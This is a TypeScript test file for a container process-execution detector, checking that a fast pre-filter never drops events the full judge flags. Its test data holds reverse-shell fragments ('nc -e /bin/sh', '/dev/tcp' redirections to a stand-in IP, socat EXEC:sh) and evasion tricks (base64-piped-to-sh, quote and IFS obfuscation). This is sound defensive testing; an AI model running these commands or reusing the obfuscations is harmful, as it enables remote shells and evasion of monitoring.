import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { defaultDetectConfig } from '../../src/detect/config.ts';
import { exampleEvent } from '../../src/detect/examples.ts';
import { createDetector } from '../../src/detect/index.ts';
import { indicators } from '../../src/detect/indicators/index.ts';
import { judgeEvent } from '../../src/detect/judge.ts';
import { mitigations } from '../../src/detect/mitigations/index.ts';
import { buildSettings } from '../../src/detect/settings.ts';
import type { ExecEvent } from '../../src/model/exec-event.ts';
import { normalizeNeutral } from '../../src/sources/neutral.ts';
import { recordTaker } from '../../src/sources/record-taker.ts';
import { readRecording } from '../../src/sources/recording.ts';
import { silentLog } from '../../src/telemetry/log.ts';
import { allInterest, testIntake } from '../support/intake.ts';

const config = defaultDetectConfig();
const settings = buildSettings(config);
const { interest } = createDetector(config);
const encoder = new TextEncoder();

/** What a source does with bytes: path or text of any field says yes. */
function wanted(event: ExecEvent): boolean {
  const { binary, exe, comm, argv, arguments: joined } = event.process;
  const isPath = (text: string | undefined) => {
    if (text === undefined) return false;
    const bytes = encoder.encode(text);
    return interest.path(bytes, 0, bytes.length);
  };
  const joinedBytes = encoder.encode((binary ?? exe ?? '') + (joined ?? argv.slice(1).join(' ')));
  const split = encoder.encode(binary ?? exe ?? '').length;
  const whole = interest.exec(joinedBytes, 0, split, split, joinedBytes.length);
  const others = [comm, argv[0]].some(isPath);
  if (!whole && !others) return false;
  const bytes = encoder.encode(joined ?? argv.slice(1).join(' '));
  return [binary, exe, comm, argv[0]].some(isPath) || interest.text(bytes, 0, bytes.length);
}

/** Judged without the detector's own early test. */
function reported(event: ExecEvent): boolean {
  const judged = judgeEvent(event, settings, {});
  return judged !== undefined && judged.score.severity !== 'none';
}

function text(value: string): boolean {
  const bytes = encoder.encode(value);
  return interest.text(bytes, 0, bytes.length);
}
function path(value: string): boolean {
  const bytes = encoder.encode(value);
  return interest.path(bytes, 0, bytes.length);
}

describe('the early test never rejects what is reported', () => {
  test('on the corpus', () => {
    const lines = readFileSync(new URL('../corpus/dev.jsonl', import.meta.url), 'utf8')
      .trim()
      .split('\n');
    const events = lines.map(
      (line) => normalizeNeutral((JSON.parse(line) as { event: object }).event, 'corpus')!,
    );
    const found = events.filter((event) => event.container && reported(event));
    expect(found.length).toBeGreaterThan(70);
    expect(found.filter((event) => !wanted(event)).map((event) => event.process.argv)).toEqual([]);
  });

  test.each([
    ['tetragon/storm.bin.gz', 0],
    ['tetragon/scenario.bin.gz', 40],
    ['tetragon/scenario-k8s.bin.gz', 40],
    ['falco/storm-lean.bin.gz', 0],
    ['falco/scenario.bin.gz', 40],
    ['falco/scenario-lean.bin.gz', 40],
    ['falco/scenario.http.jsonl.gz', 40],
    ['tetragon/scenario-k8s.export.jsonl.gz', 40],
  ])('on the bytes of the recording %s, as its source reads them', async (recording, least) => {
    const taken = async (chosen: typeof interest) => {
      const intake = testIntake({ interest: chosen });
      const file = new URL(`../fixtures/recordings/${recording}`, import.meta.url).pathname;
      await readRecording(file, {
        intake,
        taker: (form, shape) => recordTaker(form, shape, { source: 'test', intake, log: silentLog }),
      });
      return intake.events;
    };
    const found = (await taken(allInterest)).filter((event) => event.container && reported(event));
    const passed = new Set((await taken(interest)).map((event) => event.id));
    expect(found.length).toBeGreaterThanOrEqual(least);
    expect(found.filter((event) => !passed.has(event.id)).map((event) => event.process.argv)).toEqual([]);
  });

  test('on every example of an indicator', () => {
    const examples = [...indicators, ...mitigations].flatMap((entry) => [
      ...entry.examples.fires,
      ...entry.examples.silent,
    ]);
    const found = examples.map(exampleEvent).filter(reported);
    expect(found.length).toBeGreaterThan(80);
    expect(found.filter((event) => !wanted(event)).map((event) => event.process.argv)).toEqual([]);
  });

  test('on generated commands, hidden and wrapped in many ways', () => {
    const tool = fc.constantFrom(
      ...settings.taxonomy.tools.flatMap((entry) => [...entry.names]),
      'busybox nc',
      'python3',
      'x',
      '/tmp/x',
      '/opt/.h/x',
      './y',
    );
    const words = fc.constantFrom(
      '-e',
      '/bin/sh',
      '-lvnp4444',
      '203.0.113.9',
      '4444',
      'TCP:203.0.113.9:443',
      'EXEC:sh',
      'tcp-l:1,fork',
      '--sh-exec',
      'http://203.0.113.9/x',
      '-o',
      '/tmp/x',
      '-sSL',
      '-R',
      '9000:localhost:22',
      'u@203.0.113.9',
      'client',
      'R:socks',
      '--rate',
      '1000',
      '-p80',
      '10.0.0.0/8',
      '-sS',
      '-i',
      '-w',
      'a.pcap',
      '-c',
      'import socket',
      'server',
      '--reverse',
      '-ignore-cert',
      '-connect',
      'h:1',
      '-L=socks5://:1080',
      'axfr',
      '@10.0.0.2',
      '-K',
      '/tmp/c',
      'tunnel',
      '--token',
      '-h',
      '-np',
      '-qO-',
      '2',
    );
    const wrapper = fc.constantFrom(
      '',
      'timeout 5',
      'nohup setsid',
      'env A=1',
      'xargs -I{}',
      'sudo -u app',
      '/lib64/ld-linux-x86-64.so.2',
      'nice -n 5',
      'find . -exec',
      'busybox',
      'stdbuf -o0',
    );
    const shell = fc.constantFrom('', 'sh', 'bash', 'busybox sh');
    const hide = fc.constantFrom(
      (line: string) => line,
      (line: string) => line.replace(/^(\w)(\w)/, "$1''$2"),
      (line: string) => line.replace(/^(\w)(\w)/, '$1\\$2'),
      (line: string) =>
        `a=${line.slice(0, 1)}; b=${line.slice(1).split(' ')[0]}; $a$b ${line.split(' ').slice(1).join(' ')}`,
      (line: string) => `${line} | sh`,
      (line: string) => `{${line.split(' ').join(',')}}`,
      (line: string) => line.replaceAll(' ', '$' + '{IFS}'),
      (line: string) => `echo ${btoa(line)} | base64 -d | sh`,
      (line: string) => `$'\\x${line.charCodeAt(0).toString(16)}'${line.slice(1)}`,
      (line: string) => `while true; do ${line}; done`,
      (line: string) => `exec 3<>/dev/tcp/203.0.113.9/1; sh <&3 >&3; ${line}`,
    );
    const event = fc
      .record({ tool, args: fc.array(words, { maxLength: 6 }), wrapper, shell, hide })
      .map(({ tool: name, args, wrapper: outer, shell: sh, hide: disguise }) => {
        const plain = [outer, name, ...args].filter(Boolean).join(' ');
        if (sh === '') return exampleEvent({ run: plain });
        const base = exampleEvent({ run: `${sh} -c x` });
        const argv = [...sh.split(' '), '-c', disguise(plain)];
        return { ...base, process: { ...base.process, argv } };
      });
    let found = 0;
    fc.assert(
      fc.property(event, (one) => {
        if (!reported(one)) return;
        found++;
        expect(wanted(one), JSON.stringify(one.process.argv)).toBe(true);
      }),
      { numRuns: 3000 },
    );
    expect(found).toBeGreaterThan(200);
  });

  test('on any argument list at all', () => {
    const word = fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.constantFrom(
        'nc',
        'curl',
        '-e',
        'sh',
        '|',
        'http://203.0.113.9/',
        '/dev/tcp/203.0.113.9/1',
        'sh -c',
      ),
    );
    fc.assert(
      fc.property(
        fc.array(word, { maxLength: 8 }),
        fc.constantFrom('sh -c', 'nc', '/tmp/a', '/usr/bin/env', 'python3 -c'),
        (args, start) => {
          const base = exampleEvent({ run: start });
          const event = { ...base, process: { ...base.process, argv: [...base.process.argv, ...args] } };
          if (reported(event)) expect(wanted(event)).toBe(true);
        },
      ),
      { numRuns: 1000 },
    );
  });
});

describe('the early test on paths', () => {
  test('knows tools, families, loaders, descriptors and odd places', () => {
    for (const value of [
      '/usr/bin/nc',
      'nc.traditional',
      '/bin/busybox',
      '/x/busybox-x86_64',
      'python3.11',
      '/usr/bin/php8.2',
      '/lib/ld-musl-x86_64.so.1',
      '/proc/self/exe',
      '/proc/self/fd/3',
      '/memfd:x',
      '/tmp/a',
      '/usr/bin/socat (deleted)',
      '/opt/.x/a',
    ])
      expect(path(value), value).toBe(true);
  });
  test('says no to ordinary programs and to names that only resemble tools', () => {
    for (const value of [
      '/usr/bin/ls',
      '/usr/sbin/ncdu',
      '/usr/bin/ncal',
      '/usr/bin/hostname',
      '/opt/java/bin/java',
      '/usr/bin/sleep',
      '/bin/sh',
      '',
      '/',
      '/usr/bin/curl-config',
      '/usr/bin/ssh-keygen',
    ])
      expect(path(value), value).toBe(false);
  });
});

describe('the early test on argument text', () => {
  test('finds tools as words, quoted or not, and the options of renamed tools', () => {
    for (const value of [
      '-c "nc -e /bin/sh h 1"',
      '5 /usr/bin/curl x',
      "-c n''c h 1",
      'TCP:203.0.113.9:443 EXEC:sh',
      '--listen --sh-exec bash',
      '-c "exec 3<>/dev/tcp/h/1"',
      '-c "echo aGk= | base64 -d | sh"',
    ])
      expect(text(value), value).toBe(true);
  });
  test('says no to ordinary arguments', () => {
    for (const value of [
      '',
      '-la /usr/lib',
      '-c "sleep 5; echo done"',
      '-jar /app/app.jar --server.port=8080',
      '-n 5 /app/log',
      '-x /var/lib --exclude tmp',
      'install -y vim',
      '-rf /app/cache/ncdu',
    ])
      expect(text(value), value).toBe(false);
  });
});

test('an operator’s own tool is found early and judged', () => {
  const detector = createDetector({
    ...config,
    tools: {
      ...config.tools,
      add: [{ id: 'xfer', category: 'file_transfer', names: ['xfer-cli'], points: 50 }],
    },
  });
  const event = exampleEvent({ run: 'xfer-cli send host.example.com' });
  expect(detector.judge(event)).toMatchObject({ tool: 'xfer', severity: 'medium' });
  expect(createDetector(config).judge(event).severity).toBe('none');
});

test('a removed tool is never reported', () => {
  const detector = createDetector({ ...config, tools: { ...config.tools, remove: ['nmap'] } });
  expect(detector.judge(exampleEvent({ run: 'nmap 10.0.0.0/8' })).severity).toBe('none');
});
